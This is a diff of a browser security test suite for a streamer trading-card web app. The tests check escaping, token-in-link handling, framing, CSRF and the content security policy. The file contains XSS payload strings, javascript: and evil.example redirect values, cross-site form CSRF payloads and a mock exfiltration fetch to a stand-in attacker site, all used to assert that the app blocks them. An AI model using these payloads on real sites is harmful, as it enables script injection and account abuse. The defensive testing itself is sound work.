@@ -3,22 +3,21 @@
 import assert from "node:assert/strict";
 import { createServer } from "node:http";
 import { signIn } from "./demoServer.mjs";
-import { expect, test, useDemo } from "./fixtures.mjs";
+import { expect, test, useDemo, useStreamer } from "./fixtures.mjs";
 import { drawAllCards, newcomer, open, person } from "./people.mjs";
 
-/** Marks every page that it gets to run in, by each way that a text may become a script. */
+/** Sets a marker on every page where it runs, with several ways to turn a text into a script. */
 const MARK = "window.hacked=1";
 const HACK = `"'><script>${MARK}</script><img src=x onerror="${MARK}"><svg onload=${MARK}>{{7*7}}`;
-/** The same for fields with little room. */
+/** The same for fields with a short maximum length. */
 const SHORT = `<img src=x onerror=${MARK}>`;
 
 const demo = useDemo();
+const nova = useStreamer(demo);
 let evil;
-let nova;
 let ada;
 
 test.beforeAll(async () => {
-  nova = await person(demo.url, "nova");
   ada = await newcomer(nova, "attacked_ada", 3);
   evil = await startSite();
 });
@@ -27,7 +26,7 @@ test.afterAll(async () => {
   evil?.server.close();
 });
 
-/** The attacker's own site, by another name than the server's: pages are what the tests put there. */
+/** The attacker's site, on another host name than the server. The tests set its pages. */
 async function startSite() {
   const pages = new Map();
   const server = createServer((request, answer) => {
@@ -38,7 +37,7 @@ async function startSite() {
   return { server, pages, url: `http://localhost:${server.address().port}` };
 }
 
-/** A window that notes what must not happen: a script of the attacker's, a dialog, something that the policy stopped. */
+/** A window that records what must not happen: an attacker's script, a dialog, a violation of the content security policy. */
 async function watched(browser, options) {
   const window = await open(browser, { calm: true, ...options });
   const alarms = [];
@@ -51,7 +50,7 @@ async function watched(browser, options) {
       document.documentElement.dataset.violated = `${event.violatedDirective} ${event.blockedURI} ${event.sample}`;
     });
   });
-  /** Fails when the page that is shown was got into. */
+  /** Fails if the current page is compromised. */
   const isClean = async (where) => {
     const found = await window.page.evaluate(() => ({
       hacked: window.hacked ?? null,
@@ -65,8 +64,8 @@ async function watched(browser, options) {
   return { ...window, isClean };
 }
 
-/** A call that may be refused: an attacker tries. */
-async function tries(token, method, path, body) {
+/** Sends a request that may be refused. */
+async function attempt(token, method, path, body) {
   const headers = { authorization: `Bearer ${token}`, "content-type": "application/json", "idempotency-key": crypto.randomUUID() };
   const answer = await fetch(demo.url + path, { method, headers, body: JSON.stringify(body) });
   return { status: answer.status, body: await answer.json().catch(() => null) };
@@ -75,7 +74,7 @@ async function tries(token, method, path, body) {
 test("user input is shown as text everywhere", async ({ browser }) => {
   // Names come from the provider, and the stand-in takes only letters and digits, as Twitch does.
   const mallory = await person(demo.url, "mallory");
-  await mallory.asks("POST", "/api/packs/open", {});
+  await mallory.request("POST", "/api/packs/open", {});
   const accepted = [];
   const note = async (what, call) => {
     const { status, body } = await call;
@@ -84,39 +83,39 @@ test("user input is shown as text everywhere", async ({ browser }) => {
     return body;
   };
   const [theirs, hers] = [await mallory.cards(), await ada.cards()];
-  await note("trade message", tries(mallory.token, "POST", "/api/trades", {
+  await note("trade message", attempt(mallory.token, "POST", "/api/trades", {
     recipient: ada.id, offeredItems: [theirs[0]._id], requestedItems: [hers[0]._id], offeredPacks: 0, requestedPacks: 0, message: HACK,
   }));
-  const listing = await note("listing note", tries(mallory.token, "POST", "/api/market/listings", { cardId: theirs[1]._id, note: HACK }));
-  await note("offer message", tries(ada.token, "POST", `/api/market/listings/${listing._id}/offers`, {
+  const listing = await note("listing note", attempt(mallory.token, "POST", "/api/market/listings", { cardId: theirs[1]._id, note: HACK }));
+  await note("offer message", attempt(ada.token, "POST", `/api/market/listings/${listing._id}/offers`, {
     offeredCards: [hers[1]._id], offeredPacks: 0, message: HACK,
   }));
-  await note("broadcast", tries(nova.token, "POST", "/api/admin/notifications", { type: SHORT, message: HACK, link: "/dashboard" }));
-  const linked = await tries(nova.token, "POST", "/api/admin/notifications", { type: "news", message: "x", link: `javascript:${MARK}` });
+  await note("broadcast", attempt(nova.token, "POST", "/api/admin/notifications", { type: SHORT, message: HACK, link: "/dashboard" }));
+  const linked = await attempt(nova.token, "POST", "/api/admin/notifications", { type: "news", message: "x", link: `javascript:${MARK}` });
   assert.equal(linked.status, 400, "a link leads to a page of this server");
   for (const link of ["//evil.example/", "https://evil.example/", "/\\evil.example"]) {
-    const { status } = await tries(nova.token, "POST", "/api/admin/notifications", { type: "news", message: "x", link });
+    const { status } = await attempt(nova.token, "POST", "/api/admin/notifications", { type: "news", message: "x", link });
     assert.equal(status, 400, `${link} leads elsewhere`);
   }
-  // A moderator who became admin, or an import, puts it into cards, packs, modifiers, achievements, goals and the brand.
-  const definition = await nova.asks("GET", `/api/cards/${theirs[0].definitionId}`);
-  await note("card", tries(nova.token, "PUT", `/api/admin/cards/${definition._id}`, {
+  // An admin or an import can put it into cards, packs, modifiers, achievements, goals and the brand.
+  const definition = await nova.request("GET", `/api/cards/${theirs[0].definitionId}`);
+  await note("card", attempt(nova.token, "PUT", `/api/admin/cards/${definition._id}`, {
     name: HACK.slice(0, 60), imageUrl: definition.imageUrl, alt: HACK, flavorText: HACK, artist: SHORT, series: SHORT, tags: ["<svg onload=alert(1)>"],
   }));
-  const [pack] = await nova.asks("GET", "/api/packs");
-  await note("pack", tries(nova.token, "POST", "/api/admin/upsert-pack", {
+  const [pack] = await nova.request("GET", "/api/packs");
+  await note("pack", attempt(nova.token, "POST", "/api/admin/upsert-pack", {
     packId: "", name: SHORT, description: HACK, cardPool: pack.cardPool, cardsPerPack: 5, modifierChance: 0.05, why: HACK,
   }));
-  await note("modifier", tries(nova.token, "POST", "/api/modifiers", { name: "<script>x</script>", prefix: "<b onload=x>", description: HACK, enabled: false }));
-  await note("achievement", tries(nova.token, "POST", "/api/admin/achievements", {
+  await note("modifier", attempt(nova.token, "POST", "/api/modifiers", { name: "<script>x</script>", prefix: "<b onload=x>", description: HACK, enabled: false }));
+  await note("achievement", attempt(nova.token, "POST", "/api/admin/achievements", {
     name: SHORT, description: HACK, category: "packs", kind: "packs-opened", requirement: 1, reward: { packs: 1 },
   }));
-  await note("stream", tries(nova.token, "POST", "/api/admin/stream/begin", {}));
-  await note("goal", tries(nova.token, "POST", "/api/admin/goals", { title: SHORT, counts: "subs", target: 5, reward: { packs: 1 } }));
-  await note("brand", tries(nova.token, "PATCH", "/api/admin/settings", {
+  await note("stream", attempt(nova.token, "POST", "/api/admin/stream/begin", {}));
+  await note("goal", attempt(nova.token, "POST", "/api/admin/goals", { title: SHORT, counts: "subs", target: 5, reward: { packs: 1 } }));
+  await note("brand", attempt(nova.token, "PATCH", "/api/admin/settings", {
     "brand-name": SHORT, "brand-intro": HACK, "early-access-text": HACK,
   }));
-  const logo = await tries(nova.token, "PATCH", "/api/admin/settings", { "brand-logo": `javascript:${MARK}` });
+  const logo = await attempt(nova.token, "PATCH", "/api/admin/settings", { "brand-logo": `javascript:${MARK}` });
   assert.equal(logo.status, 400, "a logo is a file of this server");
   for (const what of ["trade message", "listing note", "offer message", "broadcast", "card", "brand"]) {
     assert.ok(accepted.includes(what), `${what} was not stored, so nothing was tried: ${accepted}`);
@@ -157,21 +156,21 @@ test("user input is shown as text everywhere", async ({ browser }) => {
 });
 
 test("a token in a link signs no user in without asking", async ({ browser }) => {
-  const planted = await signIn(demo.url, "mallory");
+  const mallorys = await signIn(demo.url, "mallory");
   for (const token of [null, ada.token]) {
     const { page, close } = await watched(browser, { token });
-    await page.goto(`${demo.url}/login?token=${planted}`);
+    await page.goto(`${demo.url}/login?token=${mallorys}`);
     // A signed-in user stays signed in as themselves; a visitor is asked.
     if (token === null) await page.getByRole("button", { name: /Continue as mallory\?/i }).waitFor();
     else await page.waitForURL(`${demo.url}/dashboard`);
-    assert.equal(await page.evaluate(() => localStorage.getItem("token")), token, "nothing was taken without a word");
-    assert.equal(new URL(page.url()).search, "", "the token is out of the address");
-    assert.equal(await page.evaluate((secret) => document.documentElement.innerHTML.includes(secret), planted), false);
+    assert.equal(await page.evaluate(() => localStorage.getItem("token")), token, "the token is not used without asking");
+    assert.equal(new URL(page.url()).search, "", "the token is removed from the address");
+    assert.equal(await page.evaluate((secret) => document.documentElement.innerHTML.includes(secret), mallorys), false);
     if (token === null) await page.getByRole("button", { name: "No, that is not me" }).click();
     await page.goto(`${demo.url}/catalogue`);
     await page.goBack();
-    assert.ok(!page.url().includes(planted), "nor is it in the history");
-    assert.notEqual(await page.evaluate(() => localStorage.getItem("token")), planted);
+    assert.ok(!page.url().includes(mallorys), "the token is not in the history");
+    assert.notEqual(await page.evaluate(() => localStorage.getItem("token")), mallorys);
     await close();
   }
 });
@@ -213,7 +212,7 @@ test("another site shows no page of this one in a frame but the overlay", async 
 
 test("another site's page does nothing in a visitor's name", async ({ browser }) => {
   const { page } = await watched(browser, { token: ada.token });
-  const before = await ada.asks("GET", "/api/users/me");
+  const before = await ada.request("GET", "/api/users/me");
   evil.pages.set("/", "<h1>Free cards</h1>");
   await page.goto(`${evil.url}/`);
   const got = await page.evaluate(
@@ -227,7 +226,7 @@ test("another site's page does nothing in a visitor's name", async ({ browser })
       });
       return {
         read: await outcome(fetch(`${url}/api/users/me`, { credentials: "include" })),
-        // Even one who knows a token gets nothing through a browser.
+        // A site that knows a token gets no response in a browser either.
         token: await outcome(post({ headers: { authorization: `Bearer ${token}`, "content-type": "application/json" } })),
         plain: await outcome(post({ mode: "no-cors", headers: { "content-type": "text/plain" } })),
         socket: await socket,
@@ -236,18 +235,18 @@ test("another site's page does nothing in a visitor's name", async ({ browser })
     [demo.url, ada.token],
   );
   assert.deepEqual(got, { read: "nothing", token: "nothing", plain: "nothing", socket: "nothing" });
-  // A form needs no permission to be sent; its answer shows what it did.
+  // Browsers send forms to other sites without asking; the response shows the result.
   evil.pages.set("/form", `<form method="post" action="${demo.url}/demo/twitch/channel"><input name="what" value="subscribe"><input name="viewer" value="attacked_ada"></form><form id="open" method="post" enctype="text/plain" action="${demo.url}/api/packs/open"><input name='{"a":"' value='"}'></form>`);
   for (const number of [0, 1]) {
     await page.goto(`${evil.url}/form`);
     const [answer] = await Promise.all([
-      // Until the answer is shown: what is opened before that would be cut off by it.
+      // Wait for the response: an earlier navigation would cancel the form.
       page.waitForNavigation(),
       page.evaluate((number) => document.forms[number].submit(), number),
     ]);
     assert.equal(answer.status(), 403, `form ${number}`);
   }
-  const now = await ada.asks("GET", "/api/users/me");
+  const now = await ada.request("GET", "/api/users/me");
   assert.deepEqual([now.packs, now.openedPacks], [before.packs, before.openedPacks]);
 });
 
@@ -275,5 +274,5 @@ test("a script that got into a page does not run", async ({ browser }) => {
   clearInterval(watching);
   assert.equal(await page.evaluate(() => window.hacked ?? null), null);
   const sent = await page.evaluate(async (url) => fetch(`${url}/?stolen`, { mode: "no-cors" }).then(() => "sent").catch(() => "stopped"), evil.url);
-  assert.equal(sent, "stopped", "what it would have found stays here");
+  assert.equal(sent, "stopped", "the script cannot send data to another site");
 });
